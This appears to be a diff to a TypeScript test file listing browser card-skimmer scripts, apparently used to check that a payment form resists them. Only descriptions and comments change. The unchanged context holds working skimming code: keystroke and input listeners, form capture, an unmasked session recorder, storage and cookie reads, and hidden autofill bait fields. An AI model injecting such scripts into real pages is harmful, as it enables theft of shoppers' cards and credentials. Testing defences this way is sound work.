@@ -1,4 +1,4 @@
-// Skimmers that listen and look, and leave the browser's functions as they are.
+// Skimmers that listen and read, and leave the browser's functions unchanged.
 import type { Skimmer } from './skimmer.ts';
 
 /** As its script leaves it in the page. */
@@ -8,7 +8,7 @@ interface Recorder {
 
 export const LISTENING: readonly Skimmer[] = [
   {
-    what: 'keys, caught on their way down',
+    what: 'key events in the capture phase',
     script: ({ steal }) => {
       let typed = '';
       addEventListener(
@@ -22,7 +22,7 @@ export const LISTENING: readonly Skimmer[] = [
     },
   },
   {
-    what: 'what is about to be put in (beforeinput)',
+    what: 'beforeinput events',
     script: ({ steal }) => {
       let typed = '';
       addEventListener(
@@ -36,7 +36,7 @@ export const LISTENING: readonly Skimmer[] = [
     },
   },
   {
-    what: 'input, and the field that it happened in',
+    what: 'input events and their fields',
     script: ({ steal, valueOf }) => {
       addEventListener('input', (event) => steal(valueOf(event.composedPath()[0])), true);
     },
@@ -48,7 +48,7 @@ export const LISTENING: readonly Skimmer[] = [
     },
   },
   {
-    what: 'submit, listened for in every root',
+    what: 'submit events in every root',
     script: ({ steal, values, roots }) => {
       const read = (): void => steal(values());
       setInterval(() => {
@@ -58,14 +58,14 @@ export const LISTENING: readonly Skimmer[] = [
     blind: 'The form pays from the click on its button, before anything is submitted.',
   },
   {
-    what: 'the click on Pay, and a FormData of every form',
+    what: 'clicks on Pay, and a FormData of every form',
     script: ({ steal, roots }) => {
       const forms = (): HTMLFormElement[] => roots().flatMap((root) => [...root.querySelectorAll('form')]);
       addEventListener('click', () => steal(JSON.stringify(forms().map((form) => [...new FormData(form)]))), true);
     },
   },
   {
-    what: 'every input, again and again',
+    what: 'polling of every input',
     script: ({ steal, values }) => {
       setInterval(() => steal(values()), 50);
     },
@@ -81,7 +81,7 @@ export const LISTENING: readonly Skimmer[] = [
     },
   },
   {
-    what: 'a session recorder (rrweb) that is told to leave nothing out',
+    what: 'a session recorder (rrweb) that masks nothing',
     script: ({ steal }) => {
       const { rrweb } = window as unknown as Recorder;
       rrweb.record({
@@ -94,7 +94,7 @@ export const LISTENING: readonly Skimmer[] = [
     },
   },
   {
-    what: 'window.name, as a bag that is emptied on the next page',
+    what: 'window.name, read again on the next page',
     script: ({ steal, valueOf }) => {
       steal(window.name);
       const pack = (text: string): void => {
@@ -104,7 +104,7 @@ export const LISTENING: readonly Skimmer[] = [
     },
   },
   {
-    what: 'the history’s state, as such a bag',
+    what: 'history.state, read again on the next page',
     script: ({ steal, valueOf }) => {
       steal(JSON.stringify(history.state));
       const pack = (text: string): void => {
@@ -114,7 +114,7 @@ export const LISTENING: readonly Skimmer[] = [
     },
   },
   {
-    what: 'storage, as such a bag, and whatever else lies in it',
+    what: 'storage, with everything else in it, read again on the next page',
     script: ({ steal, valueOf }) => {
       steal(JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie]));
       const pack = (text: string): void => {
@@ -128,10 +128,10 @@ export const LISTENING: readonly Skimmer[] = [
     script: ({ steal }) => {
       addEventListener('message', ({ data }) => steal(JSON.stringify(data)), true);
     },
-    blind: 'No message that the form sends or gets carries a card.',
+    blind: 'No message that the form sends or receives contains a card.',
   },
   {
-    what: 'bait for what the browser fills in',
+    what: 'hidden fields for the browser’s autofill',
     script: ({ steal, valueOf }) => {
       addEventListener('DOMContentLoaded', () => {
         const bait = document.createElement('form');
@@ -142,17 +142,17 @@ export const LISTENING: readonly Skimmer[] = [
         setInterval(() => steal([...bait.querySelectorAll('input')].map(valueOf).join('')), 50);
       });
     },
-    blind: 'A browser fills in cards that its owner has kept in it, and one that is driven has none.',
+    blind: 'A browser fills in cards that its owner has saved, and an automated one has none.',
   },
   {
-    what: 'the window in which shoppers pay, held on to',
+    what: 'a handle on the window in which shoppers pay',
     script: ({ steal }) => {
       const look = (pay: Window): void => {
         try {
           for (const input of pay.document.querySelector('eximpe-card-form')!.shadowRoot!.querySelectorAll('input'))
             steal(input.value);
         } catch {
-          // Of another origin, or not there yet.
+          // Cross-origin, or not loaded yet.
         }
         pay.postMessage('What is in your fields?', '*');
       };
